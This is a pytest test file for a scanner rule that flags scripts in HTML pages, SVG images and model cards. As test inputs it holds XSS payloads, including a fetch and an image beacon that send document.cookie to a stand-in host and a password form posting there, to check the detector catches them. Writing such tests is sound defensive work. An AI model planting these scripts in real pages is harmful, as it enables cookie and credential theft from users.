"""WEB001: pages and pictures that run scripts."""

from __future__ import annotations

import time

import pytest

from modelkeep.core import Finding, Severity
from modelkeep.scan.active_markup import DETECTOR
from samples import found_by

THEFT = "fetch('https://203.0.113.9/?c='+document.cookie)"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'


def found(text: str, name: str = "report.html") -> list[Finding]:
    return found_by(DETECTOR, text.encode(), name=name)


@pytest.mark.parametrize(
    "inner",
    [
        "<script>alert(1)</script>",
        '<g onload="alert(1)"/>',
        '<a href=" java&#10;script:alert(1)"><text>x</text></a>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    ],
)
def test_a_picture_with_a_script_fails(inner: str) -> None:
    (finding,) = found(SVG.format(inner), "a.svg")
    assert finding.severity is Severity.HIGH


@pytest.mark.parametrize(
    "inner",
    [
        "<path d='M0 0'/>",
        "<text>the script is onload = fast, javascript: too</text>",
        '<a href="https://example.com/"><text>x</text></a>',
        '<image href="data:image/png;base64,iVBORw0KGgo="/>',
    ],
)
def test_a_picture_without_one_is_silent(inner: str) -> None:
    assert found(SVG.format(inner), "a.svg") == []


@pytest.mark.parametrize(
    "body",
    [
        f"<script>{THEFT}</script>",
        "<img src=x onerror=\"new Image().src='https://203.0.113.9/?'+document.cookie\">",
        "<script>eval(atob('YQ=='))</script>",
        "<script>Jupyter.notebook.kernel.execute('import os')</script>",
        '<form action="http://203.0.113.9/"><input type="password"></form>',
    ],
)
def test_a_page_that_steals_fails_in_html_and_in_a_model_card(body: str) -> None:
    for text in (f"<!DOCTYPE html><html><body>{body}</body></html>", f"# Model\n\n{body}\n"):
        (finding,) = found(text)
        assert finding.severity is Severity.HIGH


@pytest.mark.parametrize(
    "body",
    [
        '<script>Plotly.newPlot("a", [])</script>',
        "<script>const t = localStorage.getItem('theme'); document.title = t;</script>",
        "<script>fetch('data.json').then(draw)</script>",
        f"<script>{'x' * 60_000}{THEFT}</script>",
        '<button onclick="toggle()">more</button>',
    ],
)
def test_charts_and_buttons_are_only_noted(body: str) -> None:
    (finding,) = found(f"<!DOCTYPE html><html><body>{body}</body></html>")
    assert finding.severity is Severity.INFO


@pytest.mark.parametrize(
    "text",
    [
        f"# Model\n\n```html\n<script>{THEFT}</script>\n```\n",
        f"# Model\n\nNever write `<script>{THEFT}</script>`.\n",
        f"# Model\n\n<!-- <script>{THEFT}</script> -->\n",
        "# Model\n\na < b and c > d\n",
        "<p>text</p>",
    ],
)
def test_what_is_only_shown_is_silent(text: str) -> None:
    assert found(text, "README.md") == []


@pytest.mark.parametrize(
    "text", ["<a " * 200_000, "<!--" * 200_000, ' onx="' * 100_000, "```\n" * 99_999]
)
def test_no_markup_is_slow(text: str) -> None:
    start = time.process_time()
    found(text)
    assert time.process_time() - start < 20  # no hang; figures are for benchmarks
